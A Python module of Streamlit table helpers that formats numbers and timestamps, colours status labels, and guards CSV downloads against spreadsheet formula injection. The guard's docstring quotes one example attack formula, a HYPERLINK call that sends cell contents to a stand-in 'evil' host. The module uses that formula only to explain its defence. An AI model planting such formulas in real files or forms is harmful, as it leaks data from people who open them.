"""Tables: numbers stay numbers (so a click on a header sorts them as numbers), status labels are
coloured, and a CSV download cannot smuggle a spreadsheet formula.

`labelled_table` is the one way a page shows a table with status labels. Number columns keep their
dtype and get their look from `st.column_config` (a column's own format, else whole numbers as
1,234 and others as 1,234.57); Streamlit draws a missing number as a faint "None" and a missing
progress bar as nothing. Timestamps are written as '2025-03-20 09:30', which sorts in time order
as text and leaves a missing time blank.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

import pandas as pd
import streamlit as st

from dashboard.components.status import label_color

TIMESTAMP_TEXT = "%Y-%m-%d %H:%M"
WHOLE_NUMBERS = "%,d"
DECIMALS = "%,.2f"


def _is_bool(series: pd.Series) -> bool:
    return pd.api.types.is_bool_dtype(series)


def _is_number(series: pd.Series) -> bool:
    return pd.api.types.is_numeric_dtype(series) and not _is_bool(series)


def _needs_number_format(config: Any) -> bool:
    """Whether a number column's config leaves its format to Streamlit (no config, a label
    only, a plain `Column`, or a NumberColumn without `format`)."""
    if config is None or isinstance(config, str):
        return True
    spec = config.get("type_config") or {}
    return spec.get("type") in (None, "number") and spec.get("format") is None


def number_formats(frame: pd.DataFrame, column_config: Mapping[str, Any]) -> dict[str, Any]:
    """`column_config` plus a number format for every number column that has none of its own:
    whole numbers without decimals, others with two (label, help and width are kept)."""
    config = dict(column_config)
    for name in frame.columns:
        series = frame[name]
        if not _is_number(series) or not _needs_number_format(config.get(name)):
            continue
        values = series.dropna()
        whole = bool((values == values.round()).all())
        own = config.get(name)
        own = {"label": own} if isinstance(own, str) else dict(own or {})
        column = st.column_config.NumberColumn(format=WHOLE_NUMBERS if whole else DECIMALS)
        config[name] = {**column, **{k: v for k, v in own.items() if k != "type_config" and v}}
    return config


def as_displayed(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy in which timestamps are text and missing text is an empty string; numbers and
    booleans are left as they are, and a column with no value at all is a blank number column."""
    out = frame.copy()
    for name in out.columns:
        series = out[name]
        if pd.api.types.is_datetime64_any_dtype(series):
            out[name] = ["" if pd.isna(v) else f"{v:{TIMESTAMP_TEXT}}" for v in series]
        elif series.isna().all():
            out[name] = series.astype("float64")  # nothing to show: a blank column of any kind
        elif series.isna().any() and not _is_number(series) and not _is_bool(series):
            out[name] = ["" if (v is None or v != v) else v for v in series]
    return out


def labelled_table(
    frame: pd.DataFrame,
    labels: Iterable[str] = (),
    column_config: Mapping[str, Any] | None = None,
    **kwargs: Any,
) -> None:
    """st.dataframe of `frame` with the `labels` columns coloured by status (index hidden, full
    width unless `kwargs` say otherwise)."""
    data = as_displayed(frame)
    present = [c for c in labels if c in data.columns]
    styler = data.style.map(label_color, subset=present).format(na_rep="")
    kwargs = {"hide_index": True, "width": "stretch", **kwargs}
    st.dataframe(styler, column_config=number_formats(data, column_config or {}), **kwargs)


#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy for a CSV download in which no text cell can run as a spreadsheet formula.

    Comments and ids come from customers: `=HYPERLINK("http://evil/?"&A1, "click")` typed into a
    survey would run when a colleague opens the download. Such cells get a leading apostrophe
    (OWASP's advice for CSV injection), which spreadsheets show as the text typed.
    """
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = [
                "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v
                for v in out[column]
            ]
    return out
